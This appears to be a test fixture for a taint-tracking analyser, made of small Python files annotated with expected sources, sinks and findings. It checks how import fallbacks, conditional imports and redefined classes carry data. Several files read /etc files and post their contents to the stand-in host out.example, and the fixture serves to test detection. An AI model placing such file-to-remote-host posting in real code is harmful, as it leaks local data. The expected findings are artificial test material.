# A name that is bound by turns means each of the things that it is bound to.
# --- path: live.py ---
import requests

URL = "https://out.example/"


def send(data):
    requests.post(URL, data=data)  #~ sink(egress.http) a1, sink(egress.http) a2, sink(egress.http) a3, sink(egress.http) a5, sink(egress.http) a7, sink(egress.http) a8, finding(traced) a1, finding(traced) a2, finding(traced) a3, finding(traced) a5, finding(traced) a7, finding(traced) a8


class Out:
    def put(self, data):
        requests.post(URL, data=data)  #~ sink(egress.http) a4, finding(traced) a4
# --- path: dry.py ---
def send(data):
    print(data)


class Out:
    def put(self, data):
        print(data)
# --- path: defined.py ---
try:
    from live import send
except ImportError:

    def send(data):
        pass


send(open("/etc/defined").read())  #~ source(FILE) a1
# --- path: modules.py ---
try:
    import dry as to
except ImportError:
    import live as to

to.send(open("/etc/modules").read())  #~ source(FILE) a2
# --- path: names.py ---
import os

if os.environ.get("DRY"):
    from dry import send
else:
    from live import send

send(open("/etc/names").read())  #~ source(FILE) a3
# --- path: classes.py ---
try:
    from live import Out
except ImportError:

    class Out:
        def put(self, data):
            pass


Out().put(open("/etc/classes").read())  #~ source(FILE) a4
# --- path: chosen.py ---
import os

import dry
import live

to = dry if os.environ.get("DRY") else live
to.send(open("/etc/chosen").read())  #~ source(FILE) a5
# --- path: library.py ---
try:
    from requests import post
except ImportError:

    def post(url, data=None):
        pass


post("https://out.example/", data=open("/etc/library").read())  #~ source(FILE) a6, sink(egress.http) a6, finding(traced) a6
# --- path: handed.py ---
import live


def up(to, data):
    to.send(data)


up([], "nothing")
up(live, open("/etc/handed").read())  #~ source(FILE) a7
# --- path: inside.py ---
def run():
    try:
        from dry import send
    except ImportError:
        from live import send
    send(open("/etc/inside").read())  #~ source(FILE) a8
# --- path: redefined.py ---
import requests


class Out:
    def put(self, data):
        pass


class Out:
    def put(self, data):
        requests.post("https://out.example/", data=data)  #~ sink(egress.http) a9, finding(traced) a9


Out().put(open("/etc/redefined").read())  #~ source(FILE) a9
# --- path: neither.py ---
try:
    from dry import send
except ImportError:

    def send(data):
        pass


send(open("/etc/neither").read())  #~ ok
